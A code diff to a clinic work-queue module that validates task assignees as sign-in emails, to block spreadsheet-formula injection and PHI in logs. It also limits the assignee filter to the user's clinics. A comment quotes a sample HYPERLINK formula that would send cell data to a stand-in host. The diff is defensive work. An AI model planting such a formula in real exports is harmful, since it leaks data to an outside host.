@@ -23,6 +23,7 @@ from __future__ import annotations
 
 import json
 import random
+import re
 import sqlite3
 import time
 from collections.abc import Iterable, Iterator, Mapping
@@ -90,6 +91,17 @@ create index if not exists audit_at on audit_log(at);
 """
 
 
+# Who a task may be assigned to: a staff member as the app knows them, their sign-in identity (auth.User.email, lower
+# case: `person`): an email address, or a bare user name where a directory has no domains (tests, demo set-ups).
+# Never free text: the assignee is shown in the Work queue and its exports, and a value such as
+# '=HYPERLINK("http://x.example/?"&E2&F2)' is a spreadsheet formula, a name and a phone number would be PHI in the
+# action log. Letters and digits first (no leading = + - @), no spaces, quotes other than an apostrophe
+# (o'brien@clinic.com), or brackets.
+STAFF_IDENTITY = re.compile(
+    r"[a-z0-9][a-z0-9._+'-]{0,63}(?:@[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?(?:\.[a-z0-9-]{1,63})*)?"
+)
+
+
 class ActionError(ValueError):
     """An action that cannot be recorded as given (says what to fix)."""
 
@@ -154,9 +166,15 @@ def validate(action: str, payload: Mapping[str, Any]) -> dict[str, Any]:
         raise ActionError(f"unknown action {action!r}; expected one of {', '.join(ACTIONS)}")
     clean = {k: v for k, v in payload.items() if v not in (None, "")}
     if action == "assign":
-        if not person(clean.get("assignee")):
+        who = person(clean.get("assignee"))
+        if not who:
             raise ActionError("assign needs an assignee (who should work the task)")
-        clean["assignee"] = person(clean["assignee"])
+        if not STAFF_IDENTITY.fullmatch(who):
+            raise ActionError(
+                "assign needs the assignee's sign-in email, e.g. ann.lee@clinic.com (letters, digits and . _ + ' - "
+                "before the @); nothing was recorded"
+            )
+        clean["assignee"] = who
     if action == "log_outreach":
         if clean.get("method") not in METHODS:
             raise ActionError(f"log_outreach needs a method: one of {', '.join(METHODS)}")
@@ -396,13 +414,18 @@ def clinic_now(zone: tzinfo | None, as_of: Any = None, at: datetime | None = Non
     return reference_now(as_of, wall)
 
 
-def assignees(path: Path) -> list[str]:
-    """People who have claimed or been assigned tasks (for the assignee filter), each once in lower case."""
+def assignees(path: Path, task_ids: Iterable[str] | None = None) -> list[str]:
+    """People who have claimed or been assigned tasks (for the assignee filter), each once in lower case.
+
+    `task_ids`: only those tasks' people, the tasks in the user's view (the Work queue passes its candidates, already
+    cut to the user's clinics): a desk limited to one clinic is not shown who works the other clinics' tasks. None:
+    every task in the log."""
     if not path.exists():
         return []
-    with connect(path) as con:
+    wanted = None if task_ids is None else set(task_ids)
+    with connect(path) as con:  # staff actions are few: read them and keep the wanted tasks' (as task_states)
         rows = con.execute(
-            "select distinct coalesce(json_extract(payload, '$.assignee'), actor) from actions "
+            "select distinct task_id, coalesce(json_extract(payload, '$.assignee'), actor) from actions "
             "where action in ('claim','assign')"
         ).fetchall()
-    return sorted({person(r[0]) for r in rows if person(r[0])})
+    return sorted({person(who) for task, who in rows if person(who) and (wanted is None or task in wanted)})
